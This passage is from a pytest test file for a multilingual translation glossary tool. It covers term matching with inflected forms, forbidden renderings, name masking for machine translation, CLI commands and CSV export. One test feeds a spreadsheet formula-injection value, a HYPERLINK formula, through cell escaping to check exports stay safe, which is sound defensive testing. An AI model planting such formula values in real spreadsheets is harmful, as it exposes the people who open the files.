        "es": Rendering("trabajadores migrantes", ["trabajadoras migrantes"], ["trabajadores ilegales"], ["trabajador* migrante*"]),
        "fr_CA": Rendering("travailleurs migrants", patterns=["re:travailleu(?:r|se)s? migrante?s?"]),
    })
    glossary = glossary_of(workers)
    assert glossary.find_in_target("Los trabajadores migrantes marchan.", workers, "es")
    assert glossary.find_in_target("Las Trabajadoras Migrantes marchan.", workers, "es")
    assert glossary.find_in_target("un trabajador migrante", workers, "es")
    assert glossary.find_in_target("les travailleuses migrantes", workers, "fr_CA")
    assert glossary.find_in_target("les travailleurs migrants", workers, "fr")  # "fr" finds the fr_CA rendering
    assert not glossary.find_in_target("los trabajadores extranjeros", workers, "es")
    assert not glossary.find_in_target("los supertrabajadores migrantes", workers, "es")
    assert not glossary.find_in_target("pekerja migran", workers, "id")  # no Indonesian rendering known
    assert glossary.find_forbidden("Los trabajadores ilegales", workers, "es") == [(4, 25)]
    assert glossary.missing_renderings("los trabajadores extranjeros", [workers], "es") == [workers]
    assert glossary.missing_renderings("las trabajadoras migrantes", [workers], "es") == []


# Each case: target language, a rendering as the glossary writes it, forms of it a target may use instead.
INFLECTED_RENDERINGS = [
    ("es", "trabajador migrante", ["trabajadora migrante", "trabajadores migrantes", "Trabajadoras Migrantes"]),
    ("es", "migrantes indocumentados", ["migrante indocumentado", "migrante indocumentada", "migrantes indocumentadas"]),
    ("es", "voz colectiva", ["voces colectivas"]),
    ("es", "migración forzada", ["migraciones forzadas"]),
    ("es", "patrón explotador", ["patrones explotadores"]),
    ("es", "política neoliberal", ["políticas neoliberales"]),
    ("es", "violaciones de derechos humanos", ["violación de derechos humanos"]),
    ("fr_CA", "travailleur migrant", ["travailleuse migrante", "travailleurs migrants", "travailleuses migrantes"]),
    ("fr_CA", "travailleurs migrants", ["travailleur migrant", "travailleuses migrantes"]),
    ("fr_CA", "contrôle répressif", ["contrôles répressifs"]),
    ("fr_CA", "répressif", ["répressive", "répressifs", "répressives"]),
    ("fr_CA", "mouvement international", ["mouvements internationaux"]),
    ("fr_CA", "solidarité internationale", ["solidarités internationales"]),
    ("fr_CA", "militant algérien", ["militante algérienne", "militants algériens", "militantes algériennes"]),
    ("fr_CA", "peuples autochtones", ["peuple autochtone"]),
    ("fr_CA", "demandeurs d'asile", ["demandeuse d'asile", "demandeuses d'asile"]),
    ("id", "pekerja migran", ["pekerja-pekerja migran"]),
    ("id", "buruh migran", ["buruh-buruh migran"]),
    ("id", "orang-orang yang tergusur", ["orang yang tergusur"]),
    ("tl", "mga manggagawang migrante", ["manggagawang migrante", "mga manggagawang migranteng"]),
    ("tl", "pagkakaisa", ["pagkakaisang"]),
]


@pytest.mark.parametrize(("locale", "rendering", "forms"), INFLECTED_RENDERINGS, ids=[case[1] for case in INFLECTED_RENDERINGS])
def test_a_rendering_is_found_in_its_regular_inflected_forms(locale: str, rendering: str, forms: list[str]) -> None:
    concept = term("the concept", renderings={locale: Rendering(rendering)})
    glossary = glossary_of(concept)
    for form in forms:
        assert glossary.find_in_target(f"« {form} ».", concept, locale), form
        assert glossary.missing_renderings(f"« {form} ».", [concept], locale) == [], form


def test_review_finds_renderings_through_odd_spacing_and_pattern_forms() -> None:
    workers = term("migrant workers", renderings={"es": Rendering("trabajadores migrantes")})
    laborers = term("laborers", renderings={"es": Rendering("jornaleros", patterns=["re:obrer[oa]s? migrantes?"])})
    glossary = glossary_of(workers, laborers)
    assert glossary.missing_renderings("los trabajadores  migrantes", [workers], "es") == []
    assert glossary.missing_renderings("las trabajadoras\u3000migrantes", [workers], "es") == []
    assert glossary.missing_renderings("los trabajadores  extranjeros", [workers], "es") == [workers]
    assert glossary.missing_renderings("las obreras migrantes", [laborers], "es") == []
    assert glossary.missing_renderings("los obreros", [laborers], "es") == [laborers]


def test_names_slogans_and_keep_terms_are_not_inflected() -> None:
    union = term("United Nations", kind="name", renderings={"es": Rendering("Naciones Unidas")})
    slogan = term("No one is illegal", kind="slogan", renderings={"fr_CA": Rendering("Personne n'est illégal")})
    agency = term("Migrante", kind="name", treatment="keep", case_sensitive=True)
    glossary = glossary_of(union, slogan, agency)
    assert not glossary.find_in_target("la Nación Unida", union, "es")
    assert glossary.missing_renderings("Personne n'est illégale", [slogan], "fr_CA") == [slogan]
    assert not glossary.find_in_target("los Migrantes", agency, "es")
    assert not glossary.find_in_target("Migranteng", agency, "tl")


def test_inflections_stay_whole_words_and_agree_in_number() -> None:
    workers = term("migrant workers", renderings={"es": Rendering("trabajadores migrantes"), "id": Rendering("pekerja migran")})
    glossary = glossary_of(workers)
    assert not glossary.find_in_target("los trabajadores migrantesco", workers, "es")
    assert not glossary.find_in_target("los supertrabajadoras migrantes", workers, "es")
    assert not glossary.find_in_target("trabajadoras migrante", workers, "es")  # a plural noun with a singular adjective
    assert not glossary.find_in_target("pekerja-buruh migran", workers, "id")


def test_inflected_forbidden_renderings_are_caught_and_never_accepted() -> None:
    undocumented = term("undocumented migrants", renderings={
        "es": Rendering("migrantes indocumentados", forbidden=["migrantes ilegales"]),
        "id": Rendering("migran tidak berdokumen", forbidden=["migran gelap"]),
    })
    chair = term("chairperson", kind="role", renderings={"fr_CA": Rendering("présidente", forbidden=["président"])})
    glossary = glossary_of(undocumented, chair)
    assert glossary.find_forbidden("Una migrante ilegal habló.", undocumented, "es") == [(4, 19)]
    assert glossary.find_forbidden("Migran-migran gelap", undocumented, "id") == [(0, 19)]
    # "président" is the masculine of the rendering "présidente", and forbidden: it stays forbidden
    assert glossary.find_forbidden("Le président a parlé.", chair, "fr_CA") == [(3, 12)]
    assert not glossary.find_in_target("Le président a parlé.", chair, "fr_CA")
    assert glossary.find_in_target("Les présidentes ont parlé.", chair, "fr_CA")
    assert glossary.find_forbidden("Les présidents ont parlé.", chair, "fr_CA") == [(4, 14)]


def test_keep_terms_must_appear_in_their_exact_case() -> None:
    ima = term("IMA", treatment="keep", case_sensitive=True)
    glossary = glossary_of(ima)
    assert ima.rendering("tl") == "IMA"
    assert glossary.find_in_target("Ang IMA ay", ima, "tl")
    assert not glossary.find_in_target("Ang Ima ay", ima, "tl")


# -- MT hooks -------------------------------------------------------------------------------------------------


def mt_glossary() -> Glossary:
    return glossary_of(
        term("IMA", treatment="keep", case_sensitive=True, kind="acronym"),
        term("Eni Lestari", treatment="keep", case_sensitive=True, kind="name"),
        term("Migrante", english_forms=["Migrante International"], treatment="keep", case_sensitive=True, kind="name"),
        term("undocumented migrants", renderings={"es": Rendering("migrantes indocumentados", forbidden=["migrantes ilegales"])}),
        term("plunder", renderings={"es": Rendering("saqueo")}),
    )


def test_keep_terms_and_names_are_masked_whole_for_mt_and_restored_as_written() -> None:
    glossary = mt_glossary()
    source = "Eni Lestari of Migrante International said Migrante International and the IMA reject plunder."
    masked = mask(source, keep_spans(glossary, source))
    assert masked.text == "ZXQA of ZXQB said ZXQC and the ZXQD reject plunder."
    # the MT may change a placeholder's case; it is still recognised
    draft = "Zxqa de ZXQB dijo que ZXQC y la ZXQD rechazan el saqueo."
    assert masked.restore(draft, "es") == (
        "Eni Lestari de Migrante International dijo que Migrante International y la IMA rechazan el saqueo.", [])
    assert mask("Nothing to keep here.", keep_spans(glossary, "Nothing to keep here.")).text == "Nothing to keep here."


def test_enforce_replaces_forbidden_renderings_and_fixes_keep_term_case() -> None:
    glossary = mt_glossary()
    fixed, problems = glossary.enforce(
        "The IMA defends undocumented migrants.", "La Ima defiende a los migrantes ilegales.", "es")
    assert fixed == "La IMA defiende a los migrantes indocumentados."
    assert problems == []
    fixed, _ = glossary.enforce("Undocumented migrants march.", "Migrantes ilegales marchan.", "es")
    assert fixed == "Migrantes indocumentados marchan."


def test_enforce_reports_what_it_cannot_fix() -> None:
    glossary = mt_glossary()
    fixed, problems = glossary.enforce("The IMA condemns plunder.", "La AIM condena el pillaje.", "es")
    assert fixed == "La AIM condena el pillaje."
    assert len(problems) == 2
    assert any("IMA" in p for p in problems) and any("saqueo" in p for p in problems)


def test_enforce_reports_an_inflected_forbidden_rendering_instead_of_replacing_it() -> None:
    glossary = mt_glossary()
    fixed, problems = glossary.enforce("An undocumented migrant spoke.", "Habló una migrante ilegal.", "es")
    assert fixed == "Habló una migrante ilegal."  # "migrantes indocumentados" would not agree with "una"
    assert problems == [("“migrante ilegal” is a forbidden rendering of “undocumented migrant”: "
                         "use “migrantes indocumentados” in the form the sentence needs")]
    fixed, problems = glossary.enforce("An undocumented migrant spoke.", "Habló una migrante indocumentada.", "es")
    assert (fixed, problems) == ("Habló una migrante indocumentada.", [])


def test_masking_and_enforce_read_a_tagalog_source_through_its_tagalog_forms() -> None:
    glossary = tagalog_glossary()
    source = "Sinabi ng Migrante International na ang mga manggagawang migrante ay lalaban."
    masked = mask(source, keep_spans(glossary, source, "tl"))
    assert masked.text == "Sinabi ng ZXQA na ang mga manggagawang migrante ay lalaban."
    assert masked.restore("ZXQA dijo que los trabajadores lucharán.", "es") == (
        "Migrante International dijo que los trabajadores lucharán.", [])

    fixed, problems = glossary.enforce(source, "Migrante International dijo que los trabajadores ilegales lucharán.", "es", source_lang="tl")
    assert fixed == "Migrante International dijo que los trabajadores migrantes lucharán."
    assert problems == []
    fixed, problems = glossary.enforce(source, "Migrante International dijo que los obreros lucharán.", "es", source_lang="tl")
    assert problems == ["“mga manggagawang migrante” should be rendered “trabajadores migrantes”, which the draft does not use"]
    fixed, problems = glossary.enforce(source, "Migrante International dijo que las trabajadoras migrantes lucharán.", "es",
                                       source_lang="tl")
    assert problems == []
    # read as English, the Tagalog source has no term with a Spanish rendering to enforce
    assert glossary.enforce(source, "Migrante International dijo que los obreros lucharán.", "es") == (
        "Migrante International dijo que los obreros lucharán.", [])


# -- CLI ------------------------------------------------------------------------------------------------------


def test_cli_glossary_commands(empty: Workspace, tmp_path: Path) -> None:
    runner = CliRunner()
    base = ["-w", str(empty.root), "glossary"]
    result = runner.invoke(cli, [*base, "add", "plunder", "--render", "es=saqueo", "--variants", "es=expolio; pillaje",
                                 "--render", "fr=pillage", "--unverified", "fr"])
    assert result.exit_code == 0, result.output
    result = runner.invoke(cli, [*base, "edit", "plunder", "--forbidden", "es=robo", "--drop", "fr"])
    assert result.exit_code == 0, result.output
    listed = json.loads(runner.invoke(cli, [*base, "list", "--json"]).output)
    assert listed[0]["renderings"] == {"es": {"preferred": "saqueo", "variants": ["expolio", "pillaje"], "forbidden": ["robo"],
                                              "patterns": [], "verified": True}}
    assert "plunder" in runner.invoke(cli, [*base, "list"]).output
    exported = tmp_path / "g.tbx"
    assert runner.invoke(cli, [*base, "export", str(exported)]).exit_code == 0
    assert runner.invoke(cli, [*base, "remove", "plunder"]).exit_code == 0
    assert "1 terms added" in runner.invoke(cli, [*base, "import", str(exported)]).output

    unknown = runner.invoke(cli, [*base, "add", "exploitation", "--render", "de=Ausbeutung"])
    assert unknown.exit_code == 2 and "unknown target language 'de'" in unknown.output
    bad = runner.invoke(cli, [*base, "add", "exploitation", "--render", "explotación"])
    assert bad.exit_code == 2 and "LANG=TEXT" in bad.output


# -- properties ----------------------------------------------------------------------------------------------

WORDS = st.sampled_from(["migrant", "workers", "worker's", "IMA", "ima", "human", "rights", "violations", "refugee",
                         "xrefugee", "Migrants\u2019", "Alliance", "International", "UN", "un", "the", "a"])
SEPARATORS = st.sampled_from([" ", " ", "\u00a0", ", ", ". ", "-", "\n", "'s "])


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(WORDS, SEPARATORS), max_size=25))
def test_source_matches_are_whole_words_and_never_overlap(pieces: list[tuple[str, str]]) -> None:
    glossary = glossary_of(
        term("migrant workers", english_forms=["migrant worker"]), term("IMA", treatment="keep", case_sensitive=True),
        term("human rights"), term("human rights violations"), term("refugees"),
        term("International Migrants Alliance", english_forms=["International Migrants' Alliance"]),
        term("United Nations", english_forms=["UN"]),
    )
    text = "".join(word + separator for word, separator in pieces)
    matches = glossary.find_in_source(text)
    for match in matches:
        assert text[match.start:match.end] == match.text
        assert match.start == 0 or not text[match.start - 1].isalnum()
        assert match.end == len(text) or not text[match.end].isalnum()
    for before, after in zip(matches, matches[1:], strict=False):
        assert before.end <= after.start


TEXT = st.lists(st.text(st.characters(whitelist_categories=("L", "N", "P", "S"), blacklist_characters=";"),
                        min_size=1, max_size=8), min_size=1, max_size=3).map(" ".join)


@st.composite
def glossary_terms(draw: st.DrawFn) -> list[Term]:
    texts = draw(st.lists(TEXT, min_size=1, max_size=4, unique=True))
    terms = []
    for text in texts:
        renderings = {}
        for locale in draw(st.lists(st.sampled_from(LOCALES), unique=True, max_size=4)):
            preferred = draw(TEXT)
            renderings[locale] = Rendering(
                preferred, draw(st.lists(TEXT.filter(lambda t, p=preferred: t != p), max_size=2, unique=True)),
                draw(st.lists(TEXT, max_size=2, unique=True)), draw(st.lists(TEXT.map(lambda t: t + "*"), max_size=1)),
                draw(st.booleans()))
        terms.append(Term(0, text, draw(st.lists(TEXT, max_size=2, unique=True).map(lambda f: [x for x in f if x != text])),
                          draw(st.sampled_from(["concept", "name", "acronym"])), draw(st.sampled_from(["translate", "established", "keep"])),
                          renderings, draw(st.one_of(st.just(""), TEXT)), draw(st.booleans())))
    return terms


@settings(max_examples=60, deadline=None)
@given(glossary_terms(), st.sampled_from([".csv", ".tbx"]))
def test_any_glossary_survives_a_file_round_trip(terms: list[Term], suffix: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"glossary{suffix}"
        path.write_text((write_csv if suffix == ".csv" else write_tbx)(terms, LOCALES), encoding="utf-8")
        read, skipped = (read_csv if suffix == ".csv" else read_tbx)(path, LOCALES)
    assert skipped == set()
    assert [t.to_dict() for t in read] == [t.to_dict() for t in terms]


FORMULA_TEXT = st.tuples(st.sampled_from(["", *FORMULA_STARTS, "'", "'=", "''-", "'@", "'\t"]), st.text()).map("".join)


@settings(max_examples=300, deadline=None)
@given(FORMULA_TEXT)
def test_any_text_survives_cell_escaping_and_never_starts_a_cell_with_a_formula(text: str) -> None:
    assert not escape_cell(text).startswith(FORMULA_STARTS)
    assert unescape_cell(escape_cell(text)) == text


@settings(max_examples=100, deadline=None)
@given(st.lists(FORMULA_TEXT.map(str.strip).filter(bool), min_size=1, max_size=4, unique=True))
@example(['=HYPERLINK("http://example.org/","click")', "'=quoted already", "line\rbreak", "-"])
def test_any_text_survives_a_glossary_csv_export_and_import(texts: list[str]) -> None:
    terms = [Term(0, text, kind=text, notes=text, renderings={"es": Rendering(text)}) for text in texts]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "glossary.csv"
        path.write_text(write_csv(terms, LOCALES), encoding="utf-8", newline="")
        assert not [cell for cell in exported_cells(path) if cell.startswith(FORMULA_STARTS)]
        read, _ = read_csv(path, LOCALES)
    assert [(t.term, t.kind, t.notes, t.renderings["es"].preferred) for t in read] == [(text,) * 4 for text in texts]
